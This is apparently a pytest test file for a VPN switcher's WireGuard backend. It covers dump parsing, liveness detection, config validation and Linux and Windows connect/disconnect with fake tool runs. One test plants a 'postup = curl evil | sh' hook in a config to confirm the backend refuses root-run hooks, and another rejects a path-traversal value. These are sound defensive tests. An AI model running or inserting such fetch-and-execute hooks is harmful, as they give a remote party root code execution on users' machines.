"""The wireguard backend's logic: recorded `wg show dump` / wg-quick / `sc query` outputs, fake tool runs.

The real wg-quick + wireguard-go path is exercised in tests/component/test_wireguard_real.py.
"""

from __future__ import annotations

import os
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from vpnswitch.backends import wgparse
from vpnswitch.backends.base import BackendContext
from vpnswitch.backends.wireguard import backend as wg_module
from vpnswitch.backends.wireguard.backend import WireGuardBackend
from vpnswitch.core.config import Profile
from vpnswitch.core.errors import AppMissing, BackendError
from vpnswitch.system import privileged
from vpnswitch.system.runner import Completed, Runner

DATA = Path(__file__).resolve().parents[1] / "data" / "wireguard"
# When each dump was captured (see tests/data/wireguard/README.md).
CAPTURED = {"connected.dump": 1795873034.2, "peer-silent-1.dump": 1795873041.2, "peer-silent-2.dump": 1795873047.3,
            "never-handshake.dump": 1795873053.4}


def dump(name: str) -> wgparse.WgDump:
    return wgparse.parse_dump((DATA / name).read_text())


def sample(name: str, shift: float = 0.0) -> wgparse.Sample:
    return wgparse.Sample(CAPTURED[name] + shift, dump(name))


# ------------------------------------------------------------------------------------------ parsing


def test_parse_a_recorded_dump() -> None:
    parsed = dump("connected.dump")
    assert parsed.listen_port == 54189 and parsed.fwmark == 0xCA6C
    (peer,) = parsed.peers
    assert peer.endpoint == "10.97.0.1:51820" and peer.allowed_ips == ("0.0.0.0/0",)
    assert (peer.latest_handshake, peer.rx, peer.tx, peer.keepalive) == (1795873033, 92, 180, 5)
    assert wgparse.describe(parsed, CAPTURED["connected.dump"]) == "latest handshake 1 s ago, received 92 B, sent 180 B"


def test_a_peer_that_never_answered() -> None:
    parsed = dump("never-handshake.dump")
    assert parsed.latest_handshake == 0 and parsed.rx == 0 and parsed.tx == 296
    assert "never" in wgparse.describe(parsed, 0)


def test_an_interface_without_peers_or_keys() -> None:
    parsed = wgparse.parse_dump("(none)\t(none)\t54261\toff\n")
    assert parsed.peers == () and parsed.fwmark is None and parsed.latest_handshake == 0


@pytest.mark.parametrize("text", ["", "a\tb\n", "k\tp\t1\toff\npeer\tonly\tthree\n", "k\tp\tx\toff\n"])
def test_malformed_dumps_are_rejected(text: str) -> None:
    with pytest.raises(ValueError):
        wgparse.parse_dump(text)


def test_silent_peer_is_not_declared_dead_within_wireguards_own_timers() -> None:
    first, one, two = sample("connected.dump"), sample("peer-silent-1.dump"), sample("peer-silent-2.dump")
    assert two.dump.tx > one.dump.tx and two.dump.rx == one.dump.rx  # the recorded stall: sending, nothing back
    assert wgparse.dead_reason(first, one, two) is None  # 14 s: WireGuard is still retrying


def test_silent_peer_past_the_key_rejection_time_is_dead() -> None:
    first, two = sample("connected.dump"), sample("peer-silent-2.dump")
    late = wgparse.Sample(two.at + 200, two.dump)
    later_dump = wgparse.WgDump(two.dump.listen_port, two.dump.fwmark,
                                tuple(p.__class__(**{**p.__dict__, "tx": p.tx + 500}) for p in two.dump.peers))
    reason = wgparse.dead_reason(first, late, wgparse.Sample(late.at + 5, later_dump))
    assert reason is not None and "no longer answers" in reason
    # the same age on a quiet tunnel (nothing sent) says nothing
    assert wgparse.dead_reason(first, late, wgparse.Sample(late.at + 5, two.dump)) is None


def test_never_handshaking_while_sending_is_dead_only_after_the_retry_window() -> None:
    start = sample("never-handshake.dump")
    base = start.dump.peers[0]

    def at(seconds: float, tx: int) -> wgparse.Sample:
        peer = base.__class__(**{**base.__dict__, "tx": tx})
        return wgparse.Sample(start.at + seconds, wgparse.WgDump(start.dump.listen_port, start.dump.fwmark, (peer,)))

    assert wgparse.dead_reason(start, at(60, 900), at(65, 1000)) is None
    reason = wgparse.dead_reason(start, at(110, 1900), at(115, 2000))
    assert reason is not None and "never completed a handshake" in reason


def test_wg_quick_error_keeps_only_the_explanation() -> None:
    assert wgparse.wg_quick_error((DATA / "wg-quick-up.txt").read_text()) == ""
    assert wgparse.wg_quick_error((DATA / "wg-quick-up-exists.txt").read_text()) == "wg-quick: `wg0' already exists"
    assert wgparse.wg_quick_error((DATA / "wg-quick-up-no-resolvconf.txt").read_text()) == \
        "/usr/bin/wg-quick: line 32: resolvconf: command not found"


@pytest.mark.parametrize(("name", "code", "state"), [
    ("sc-query-running.txt", 0, "running"),
    ("sc-query-start-pending.txt", 0, "start-pending"),
    ("sc-query-stopped.txt", 0, "stopped"),
    ("sc-query-missing.txt", 1060, "missing"),
])
def test_sc_query(name: str, code: int, state: str) -> None:
    assert wgparse.parse_sc_query((DATA / name).read_bytes().decode(), code) == state
    assert wgparse.parse_sc_query("garbage") == "unknown"


def test_cleanup_parsers_find_only_wg_quick_leftovers() -> None:
    rules = (DATA / "ip-rule.txt").read_text()
    assert privileged.orphan_fwmark_tables(rules) == [51820]
    assert privileged.orphan_fwmark_tables("32765:\tnot from all fwmark 0x1 lookup 51820\n") == []
    tables = (DATA / "nft-tables.txt").read_text() + "table inet filter\ntable ip wg-quick-wg1\n"
    assert privileged.wg_quick_nft_tables(tables, "wg0") == [("ip", "wg-quick-wg0")]


# --------------------------------------------------------------------------------------- parameters


@pytest.mark.parametrize(("config", "ok"), [
    ("wg0", True), ("/etc/wireguard/wg0.conf", True), ("/home/me/vpn/home-nl.conf", True),
    ("wg0/../x", False), ("/etc/wireguard/wg0.txt", False), ("/etc/wireguard/much-too-long-name.conf", False),
    ("relative/wg0.conf", False), ("", False),
])
def test_validate_params(config: str, ok: bool) -> None:
    problems = WireGuardBackend.validate_params({"config": config})
    assert (problems == []) == ok, problems
    assert all(key == "config" for key, _ in problems)


def test_unknown_and_missing_params_are_named() -> None:
    assert [k for k, _ in WireGuardBackend.validate_params({})] == ["config"]
    assert [k for k, _ in WireGuardBackend.validate_params({"config": "wg0", "conifg": "x"})] == ["conifg"]


def test_route_and_transport(tmp_path: Path) -> None:
    backend = WireGuardBackend(Profile("Home", "wireguard", {"config": "/etc/wireguard/home-nl.conf"}),
                               BackendContext(work_dir=tmp_path))
    assert backend.route().interface == "home-nl" and backend.route().kind == "tunnel"
    assert backend.transport() == "udp"


# ---------------------------------------------------------------------------------- connect (Linux)


class FakeOps(privileged.Ops):
    """Records wg-quick calls; ``interfaces`` stands for what the namespace holds."""

    direct = True

    def __init__(self, interfaces: set[str], results: dict[str, Completed] | None = None) -> None:
        self.interfaces = interfaces
        self.results = results or {}
        self.calls: list[tuple[str, ...]] = []

    def wg_quick(self, verb: str, config: str, timeout: float) -> Completed:
        self.calls.append(("wg-quick", verb, config))
        result = self.results.get(verb, Completed(("wg-quick",), 0, "", "", 0.1))
        if result.ok:
            name = Path(config).name.removesuffix(".conf")
            (self.interfaces.add if verb == "up" else self.interfaces.discard)(name)
        return result

    def wg_dump(self, iface: str, timeout: float) -> Completed:
        self.calls.append(("wg", "show", iface))
        return Completed(("wg",), 0, (DATA / "connected.dump").read_text(), "", 0.01)

    def wg_cleanup(self, iface: str, config: str, timeout: float) -> None:
        self.calls.append(("cleanup", iface))


@pytest.fixture
def fake_linux(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Callable[..., tuple[WireGuardBackend, FakeOps]]:
    def build(text: str = "[Interface]\nPrivateKey = x\nAddress = 10.0.0.2/24\n[Peer]\nPublicKey = y\n",
              results: dict[str, Completed] | None = None, direct: bool = True) -> tuple[WireGuardBackend, FakeOps]:
        config = tmp_path / "wgtest0.conf"
        config.write_text(text)
        interfaces: set[str] = set()
        ops = FakeOps(interfaces, results)
        ops.direct = direct
        monkeypatch.setattr(privileged, "ops_for", lambda runner: ops)
        monkeypatch.setattr(wg_module.netinfo, "interface_up", lambda name: True if name in interfaces else None)
        monkeypatch.setattr(wg_module, "socket_in_use", lambda path: False)
        monkeypatch.setattr(wg_module, "WATCH_INTERVAL", 0.05)
        backend = WireGuardBackend(Profile("Home", "wireguard", {"config": str(config)}),
                                   BackendContext(work_dir=tmp_path))
        backend.platform = "linux"
        return backend, ops

    return build


def test_connect_status_disconnect(fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]]) -> None:
    backend, ops = fake_linux()
    backend.connect(5.0)
    assert ops.calls[0][:2] == ("wg-quick", "up")
    status = backend.status(2.0)
    assert status.state == "connected" and "received 92 B" in status.detail
    assert backend.liveness() is None
    backend.disconnect(5.0)
    assert ("wg-quick", "down", ops.calls[0][2]) in ops.calls
    assert backend.status(2.0).state == "disconnected"


def test_an_interface_that_vanished_is_cleaned_up_on_disconnect(
        fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]]) -> None:
    backend, ops = fake_linux()
    backend.connect(5.0)
    ops.interfaces.clear()  # wireguard-go died
    backend.disconnect(5.0)
    assert ops.calls[-1] == ("cleanup", "wgtest0")
    ops.calls.clear()
    backend.disconnect(5.0)  # nothing of ours left: nothing to do
    assert ops.calls == []


def test_wg_quick_failure_explains_itself(fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]]) -> None:
    failed = Completed(("wg-quick",), 1, "", (DATA / "wg-quick-up-exists.txt").read_text(), 0.1)
    backend, _ = fake_linux(results={"up": failed})
    with pytest.raises(BackendError, match="already exists") as info:
        backend.connect(5.0)
    assert not info.value.fatal


def test_hooks_in_a_user_writable_config_are_refused(fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]]
                                                     ) -> None:
    backend, ops = fake_linux("[Interface]\nPrivateKey = x\npostup = curl evil | sh\n[Peer]\nPublicKey = y\n")
    with pytest.raises(BackendError, match="runs commands as root") as info:
        backend.connect(5.0)
    assert info.value.fatal and ops.calls == []


def test_dns_without_resolvconf_is_a_clear_error(fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]],
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    backend, ops = fake_linux("[Interface]\nPrivateKey = x\nDNS = 10.0.0.1, corp.example\n[Peer]\nPublicKey = y\n")
    monkeypatch.setattr(wg_module.shutil, "which", lambda name, path=None: None)
    with pytest.raises(AppMissing, match="resolvconf") as info:
        backend.connect(5.0)
    assert "remove the DNS line" in info.value.hint and ops.calls == []


def test_a_same_named_interface_in_another_namespace_is_refused(
        fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]], monkeypatch: pytest.MonkeyPatch) -> None:
    backend, ops = fake_linux()
    monkeypatch.setattr(wg_module, "socket_in_use", lambda path: True)
    with pytest.raises(BackendError, match="another WireGuard interface named wgtest0"):
        backend.connect(5.0)
    assert ops.calls == []


def test_close_takes_down_what_this_backend_brought_up(
        fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]]) -> None:
    backend, ops = fake_linux()
    backend.close()  # never connected: nothing to do
    assert ops.calls == []
    backend.connect(5.0)
    backend.close()
    assert ops.calls[-1][:2] == ("wg-quick", "down") and not ops.interfaces


def test_an_interface_already_up_is_taken_over(fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]]) -> None:
    backend, ops = fake_linux()
    ops.interfaces.add("wgtest0")
    backend.connect(5.0)
    assert not [c for c in ops.calls if c[0] == "wg-quick"]
    backend.close()


def test_the_handshake_watch_turns_a_dead_peer_into_a_liveness_reason(
        fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]], monkeypatch: pytest.MonkeyPatch) -> None:
    backend, ops = fake_linux()
    tx = iter(range(1000, 10**6, 100))
    dead_line = (DATA / "connected.dump").read_text().splitlines()

    def stale_dump(iface: str, timeout: float) -> Completed:
        fields = dead_line[1].split("\t")
        fields[6] = str(next(tx))  # we keep sending; rx stays flat; handshake is 10 minutes old
        return Completed(("wg",), 0, dead_line[0] + "\n" + "\t".join(fields) + "\n", "", 0.01)

    monkeypatch.setattr(ops, "wg_dump", stale_dump)
    backend.context.clock.wall = lambda: 1795873033 + 600  # type: ignore[method-assign]
    backend.connect(5.0)
    deadline = time.monotonic() + 5
    while backend.liveness() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    assert "no longer answers" in (backend.liveness() or "")
    backend.disconnect(5.0)


def test_without_root_no_background_polling(fake_linux: Callable[..., tuple[WireGuardBackend, FakeOps]]) -> None:
    backend, ops = fake_linux(direct=False)
    backend.connect(5.0)
    assert backend._watch is None
    backend.disconnect(5.0)


# ------------------------------------------------------------------------------------------ Windows


class ScriptedRunner(Runner):
    """Answers run() from a script of (argv prefix, output file, return code); records every call."""

    def __init__(self, script: list[tuple[Sequence[str], str, int]]) -> None:
        super().__init__()
        self.script = script
        self.calls: list[tuple[str, ...]] = []

    def run(self, argv: Sequence[str], **kwargs: Any) -> Completed:
        self.calls.append(tuple(argv))
        for i, (prefix, output, code) in enumerate(self.script):
            if tuple(argv[: len(prefix)]) == tuple(prefix):
                del self.script[i]
                text = (DATA / output).read_bytes().decode() if output else ""
                return Completed(tuple(argv), code, text, "", 0.01)
        raise AssertionError(f"unexpected call {argv}")


def windows_backend(tmp_path: Path, runner: ScriptedRunner, monkeypatch: pytest.MonkeyPatch) -> WireGuardBackend:
    exe = tmp_path / "WireGuard" / "wireguard.exe"
    exe.parent.mkdir()
    exe.write_text("")
    monkeypatch.setenv("PROGRAMFILES", str(tmp_path))
    backend = WireGuardBackend(Profile("Home", "wireguard", {"config": r"C:\Users\me\wg\home-nl.conf"}),
                               BackendContext(runner=runner, work_dir=tmp_path))
    backend.platform = "win32"
    return backend


SC = ("sc", "query", "WireGuardTunnel$home-nl")


def test_windows_connect_waits_for_the_tunnel_service(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    exe = str(tmp_path / "WireGuard" / "wireguard.exe")
    runner = ScriptedRunner([(SC, "sc-query-missing.txt", 1060)])
    runner.script += [((exe, "/installtunnelservice"), "", 0), (SC, "sc-query-start-pending.txt", 0),
                      (SC, "sc-query-running.txt", 0)]
    backend = windows_backend(tmp_path, runner, monkeypatch)
    backend.connect(10.0)
    assert (exe, "/installtunnelservice", r"C:\Users\me\wg\home-nl.conf") in runner.calls
    assert backend.route().interface == "home-nl"
    runner.script += [(SC, "sc-query-running.txt", 0)]
    assert backend.status(5.0).state == "connected"
    runner.script += [(SC, "sc-query-running.txt", 0), ((exe, "/uninstalltunnelservice", "home-nl"), "", 0),
                      (SC, "sc-query-stopped.txt", 0), (SC, "sc-query-missing.txt", 1060)]
    backend.disconnect(10.0)
    assert runner.script == []


def test_windows_service_that_stops_is_a_failure(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    runner = ScriptedRunner([])
    exe = str(tmp_path / "WireGuard" / "wireguard.exe")
    runner.script = [(SC, "sc-query-missing.txt", 1060), ((exe, "/installtunnelservice"), "", 0),
                     (SC, "sc-query-stopped.txt", 0),
                     (SC, "sc-query-stopped.txt", 0), ((exe, "/uninstalltunnelservice"), "", 0),
                     (SC, "sc-query-missing.txt", 1060)]
    backend = windows_backend(tmp_path, runner, monkeypatch)
    with pytest.raises(BackendError, match="did not start"):
        backend.connect(10.0)
    assert runner.script == []


def test_windows_disconnect_of_nothing_is_fine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    runner = ScriptedRunner([(SC, "sc-query-missing.txt", 1060), (SC, "sc-query-missing.txt", 1060)])
    backend = windows_backend(tmp_path, runner, monkeypatch)
    backend.disconnect(5.0)
    assert backend.status(5.0).state == "disconnected"


def test_windows_names() -> None:
    assert wg_module._windows_name("home-nl") == "home-nl"
    assert wg_module._windows_name(r"C:\x\a-very-long-but-valid-name-1234.conf.dpapi") == \
        "a-very-long-but-valid-name-1234"
    with pytest.raises(ValueError):
        wg_module._windows_name(r"C:\x\bad name.conf")


def test_socket_in_use_tells_a_live_socket_from_a_stale_file(tmp_path: Path) -> None:
    import socket

    path = tmp_path / "wg9.sock"
    assert not wg_module.socket_in_use(path)
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen(1)
    assert wg_module.socket_in_use(path)
    server.close()
    assert path.exists() and not wg_module.socket_in_use(path)
    os.unlink(path)
